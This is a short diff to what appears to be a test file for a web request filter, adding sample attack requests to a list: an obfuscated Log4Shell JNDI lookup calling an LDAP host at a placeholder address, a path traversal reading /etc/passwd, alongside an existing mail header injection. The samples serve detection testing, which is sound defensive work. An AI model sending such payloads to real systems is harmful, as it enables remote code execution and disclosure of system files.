@@ -96,6 +96,8 @@ const ATTACKS: AttackReq[] = [
     name: "mail command injection in a form body (a signature)", path: "/contact", headers: { "content-type": "application/x-www-form-urlencoded" },
     body: "email=ann%40example.com%0ABcc%3Aall%40example.net&message=hello", cls: "crlf", part: "body:form:email",
   },
+  { name: "Log4Shell in a header, its name spelled by lookups (a payload verdict)", path: "/", headers: { "x-api-version": "${${lower:j}ndi:ldap://198.51.100.7/a}" }, cls: "jndi", part: "header:x-api-version" },
+  { name: "an OS file as a query value (a payload verdict)", path: "/download?file=..%2F..%2F..%2Fetc%2Fpasswd", cls: "traversal", part: "query:file" },
 ];
 // 4 KiB of benign form body, over the stacks' max_body_bytes of 1024.
 const LONG_BENIGN_FORM = `comment=${"All good here, thanks for the fast shipping. ".repeat(100)}`.slice(0, 4096);
